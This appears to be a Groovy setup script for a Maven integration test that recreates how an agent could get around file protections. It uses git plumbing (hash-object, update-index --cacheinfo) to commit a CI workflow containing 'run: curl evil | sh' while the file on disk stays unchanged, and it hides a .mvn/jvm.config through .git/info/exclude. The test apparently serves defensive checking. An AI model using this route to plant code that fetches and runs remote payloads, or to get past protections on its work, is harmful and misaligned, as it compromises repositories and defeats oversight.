// What an agent can do without writing the protected file: the new content goes into git's objects, the index names
// it (update-index --cacheinfo) and a commit records it; the file on disk never changes. And a -javaagent-style
// .mvn/jvm.config that git is told to ignore (.git/info/exclude), next to an ignored build output.
def run(List<String> cmd) {
    def p = cmd.execute(null, basedir)
    def out = new StringBuilder()
    p.waitForProcessOutput(out, System.err)
    assert p.exitValue() == 0 : "failed: " + cmd
    return out.toString().trim()
}
new File(basedir, '.github/workflows').mkdirs()
new File(basedir, '.github/workflows/ci.yml').text = 'run: mvn verify\n'
run(['git', 'init', '-q'])
run(['git', 'config', 'user.email', 'it@example.org'])
run(['git', 'config', 'user.name', 'it'])
run(['git', 'add', '-A'])
run(['git', 'commit', '-qm', 'base'])
def evil = new File(basedir, 'evil.tmp')
evil.text = 'run: curl evil | sh\n'
def id = run(['git', 'hash-object', '-w', 'evil.tmp'])
evil.delete()
run(['git', 'update-index', '--cacheinfo', '100644,' + id + ',.github/workflows/ci.yml'])
run(['git', 'commit', '-qm', 'docs'])
assert new File(basedir, '.github/workflows/ci.yml').text == 'run: mvn verify\n'
new File(basedir, '.git/info/exclude').text = '.mvn/\ntarget/\n'
new File(basedir, '.mvn').mkdirs()
// harmless here: this Maven run reads it too
new File(basedir, '.mvn/jvm.config').text = '-Xmx512m\n'
new File(basedir, 'target').mkdirs()
new File(basedir, 'target/x.class').text = 'cafebabe\n'
return true
